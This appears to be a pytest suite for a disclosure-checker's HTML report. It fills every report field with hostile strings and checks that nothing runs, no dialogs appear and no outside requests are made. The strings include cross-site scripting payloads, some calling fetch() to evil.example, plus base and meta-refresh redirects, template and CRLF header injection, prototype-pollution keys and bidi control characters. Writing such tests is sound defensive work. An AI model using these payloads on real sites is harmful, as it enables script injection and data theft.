"""Hostile text wherever text of pages can stand: the same elements stand in the report, nothing runs, and nobody is asked for anything."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from checker.facts import Page, Region
from checker.model import About, Evidence, Finding, Http, Outcome, PagePicture, PageReport, Review, ReviewReason, Waiver, WaiverEntry
from checker.outline import OutlineBlock
from checker.report.run import AuthorityEntry, Closing, RuleEntry, Run

Reads = Callable[..., Any]
CALL = "alert(1);document.title='run';window.ran=1;fetch('https://evil.example/')"
TEXTS = {
    "script": f"<script>{CALL}</script>",
    "closing": f"</script><script>{CALL}</script><style>*{{display:none}}</style>",
    "comment": "<!-- <script> --!> -->",
    "image": f"<img src=https://evil.example/i.png onerror=\"{CALL}\"><svg onload={CALL}><iframe srcdoc='<script>{CALL}</script>'>",
    "noscript": f"</noscript></main></title></textarea><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>"
    f"<link rel=stylesheet href=//evil.example/s.css>{CALL}",
    "javascript": f"javascript:{CALL}",
    "data": f"data:text/html,<script>{CALL}</script>",
    "attribute": f'" onmouseover="{CALL}" style="background:url(https://evil.example/b)" \'',
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} </template> ]]> %s {0} \\u003cscript\\u003e",
    "controls": "a\x00b\x01\x07\x08\x1b[31mc\x7f\x85\x9b\ufeff\ufffe\uffff",
    "bidi": "\u202eevil\u202d \u2066nested\u2067 \u200f\u061c text",
    "surrogates": "half \ud800 other \udc00 reversed \udfff\ud83d",
    "separators": "line\u2028paragraph\u2029next\x0b\x0c\x1c\x1e",
    "prototype": "__proto__",
    "constructor": "constructor",
    "method": "toString",
    "address": "#view=record&page=x%00&__proto__=1\r\nSet-Cookie: a=b",
    "none": "(none)",
    "combining": "e" + "\u0301" * 3000,
    "huge": "<b>huge</b> " * 90_000,
}
_ELEMENTS = """() => [...document.querySelectorAll('body *')].filter(element => !element.closest('noscript, .left'))
    .map(element => element.localName + (element.hasAttribute('style') && !element.style.cssText.startsWith('--') ? '!' : '')).sort().join(' ')"""
_HANDLERS = """() => [...document.querySelectorAll('*')].flatMap(element => element.getAttributeNames()
    .filter(name => name.startsWith('on') || name === 'srcdoc'))"""
_ADDRESSES = """() => [...document.querySelectorAll('[href], [src], [action]')]
    .map(element => element.href || element.src).filter(address => !/^(file:.*#|https?:\\/\\/law\\.example\\/)/.test(address))"""


class Dresses:
    """Puts a text wherever text of pages, settings or rules can stand."""

    def __init__(self, finding: Callable[..., Finding], report: Callable[..., PageReport], page: Page) -> None:
        self._finding, self._report, self._page = finding, report, page

    def page(self, text: str) -> PageReport:
        """A page with a fault and a question, whose every text is this."""
        made = self._finding()
        # What rules, settings and the outline say is no page's to make long.
        ours = text if len(text) < 1_000 else "Ours"
        spot = replace(made.evidence[0].spot, quote=text, excerpt=text)
        texts: dict[str, Any] = {
            "message": text,
            "why": ours,
            "fix": ours,
            "paste": ours,
            "paste_language": ours,
            "anchor": text,
            "cause": f"AFF001 {ours}",
        }
        evidence = (Evidence(ours, ours, spot, block=0), Evidence("insertion", ours, spot, block=1))
        fault = replace(
            made, **texts, evidence=evidence, authorities=(ours, "us-ftc-255.5"), profiles=(ours,), values={"host": text, "network": ours}
        )
        asked = replace(fault, outcome=Outcome.NEEDS_REVIEW, review=Review(ReviewReason.POSSIBLE_LINKS, ours), fingerprint=ours)
        waived = replace(fault, state="suppressed", waiver=Waiver("settings", text, text, text, text), fingerprint="v1:" + "1" * 64)
        about = replace(
            About.of(self._page),
            title=text, url=text, authors=(text, "Somebody else"), section=text, networks=(ours,), page_type=ours, published=text,
            modified=text, language=text, cut=text,
        )  # fmt: skip
        blocks = (OutlineBlock("paragraph", Region.ARTICLE, ours, ("notice:1", "link:1")), OutlineBlock("image", Region.ARTICLE, ours, ("image:1",)))
        return replace(
            self._report(fault, asked, waived), page=None, about=about, address=text, source=f"{ours} of the web", problems=(text,), profiles=(ours,),
            outline=blocks,
            http=Http(200, text, (), text), waivers=(WaiverEntry(Waiver("inline", text, text, text, text), (text,), text, "used", 1, text),),
            pictures=(PagePicture(ours, ours, ours, ours),),
        )  # fmt: skip

    def run(self, text: str, run: Run) -> Run:
        """A run whose rules and authorities say this."""
        text = text if len(text) < 1_000 else "Ours"
        rule = RuleEntry("AFF001", text, run.rules[0].severity, text, (text,), text)
        authority = AuthorityEntry(text, text, text, text, text, text, text)
        return replace(
            run,
            rules=(rule,),
            authorities={**run.authorities, text: authority},
            profiles=(text,),
            volatile={"started_at": text, "arguments": [text]},
            regions={"article": text},
        )


@pytest.fixture
def dresses(finding: Callable[..., Finding], report: Callable[..., PageReport], page: Page) -> Dresses:
    return Dresses(finding, report, page)


@pytest.fixture(scope="module")
def harmless() -> dict[str, Any]:
    """What the views are made of where all texts are harmless; the first test looks."""
    return {}


def views(reader: Any) -> list[str]:
    """The elements of every view, and of the page's own."""
    found = []
    for place in (
        "#view=overview",
        "#view=causes",
        *(f"#view=causes&by={by}" for by in ("rule", "author", "section", "network", "profile", "type")),
        "#view=pages",
        "#view=questions",
        "#view=record",
    ):
        reader.at(place)
        found.append(reader.tab.evaluate(_ELEMENTS))
        assert reader.tab.evaluate(_HANDLERS) == []
        assert reader.tab.evaluate(_ADDRESSES) == []
    reader.at("#view=pages").click("ol.pages h2 a")
    assert reader.tab.locator(".findings .card").count() > 0, "the page is not found by its own address"
    found.append(reader.tab.evaluate(_ELEMENTS))
    assert reader.tab.evaluate(_ADDRESSES) == []
    reader.tab.evaluate("() => { for (const each of document.querySelectorAll('details')) each.open = true; }")
    for fold in reader.tab.locator("input[type=radio]").all():
        fold.check()
    return found


@pytest.mark.parametrize("name", TEXTS)
def test_hostile_text_changes_nothing_and_asks_for_nothing(
    reads: Reads,
    written: Callable[..., Path],
    dresses: Dresses,
    run: Run,
    closing: Callable[..., Closing],
    tabs: Any,
    harmless: dict[str, Any],
    name: str,
) -> None:
    plain, hostile = "Harmless", TEXTS[name]
    assert len(hostile) < 1_000 or name in ("huge", "combining")
    reports = {}
    for which, text in (("plain", plain), ("hostile", hostile)):
        page = dresses.page(text)
        made = replace(closing(page), exit_message=f"disclosure-checker: exit 1 (findings): {text[:1000]}", waivers=dresses.page(text[:1000]).waivers)
        reports[which] = written(page, run=dresses.run(text, run), closed=made, name=f"{which}.html")
    asked: list[str] = []
    dialogs: list[str] = []

    def dismissed(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    found = harmless
    for which, path in reports.items():
        if which == "plain" and found:
            continue
        reader = reads(path)
        reader.tab.on("request", lambda request: asked.append(request.url))
        reader.tab.on("dialog", dismissed)
        found[which] = views(reader)
        assert reader.tab.evaluate("window.ran") is None
        assert reader.tab.title() != "run"
        assert reader.tab.evaluate("Object.keys(Object.prototype).length === 0 && ({}).polluted === undefined")
    for there, due in zip(found["hostile"], found["plain"], strict=True):
        assert Counter(there.split()) == Counter(due.split())
    assert (dialogs, tabs.asked, tabs.faults) == ([], [], [])
    assert [url for url in asked if not url.startswith("file:")] == []
    # However long a text is, what is kept of it is not.
    assert reports["hostile"].stat().st_size < reports["plain"].stat().st_size + 250_000


def test_hostile_text_is_no_element_where_no_script_runs(reads: Reads, written: Callable[..., Path], dresses: Dresses, run: Run, tabs: Any) -> None:
    pages = [dresses.page(text) for name, text in TEXTS.items() if name not in ("huge", "combining")]
    plain = [dresses.page(f"Harmless {nth}") for nth in range(len(pages))]
    names = "() => [...document.querySelectorAll('body main *')].map(element => element.localName).sort().join(' ')"
    found = []
    for which, some in (("plain", plain), ("hostile", pages)):
        tab = tabs.open(written(*some, run=run, name=f"{which}.html"), scripts=False)
        found.append(tab.locator("main").count() and tab.evaluate(names))
    assert found[0] == found[1]
    assert len(found[0].split()) > 40
    assert tabs.asked == []


def test_many_hostile_pages_are_told_apart(reads: Reads, written: Callable[..., Path], dresses: Dresses, tabs: Any) -> None:
    texts = [text for name, text in TEXTS.items() if name != "huge"]
    reader = reads(written(*(dresses.page(text) for text in texts)), "#view=pages&sort=source")
    assert len(reader.rows) == len(texts)
    for nth in range(len(texts)):
        reader.at("#view=pages&sort=source")
        link = reader.tab.locator("ol.pages h2 a").nth(nth)
        title = link.text_content().strip()
        link.click()
        assert (reader.settled().tab.locator("main h1").text_content() or "").strip() == title
        assert reader.tab.locator("nav.steps").inner_text().find(f"{nth + 1} of {len(texts)}") >= 0
    for facet in ("author", "section", "network", "profile", "type"):
        reader.at(f"#view=causes&by={facet}")
        lines = reader.tab.locator("main table tbody tr")
        assert lines.count() >= len(texts)
        for nth in range(0, lines.count(), 4):
            due = int(lines.nth(nth).locator("td").first.inner_text())
            lines.nth(nth).locator("a").click()
            assert reader.settled().count == due
            reader.at(f"#view=causes&by={facet}")
    assert (tabs.asked, tabs.faults) == ([], [])
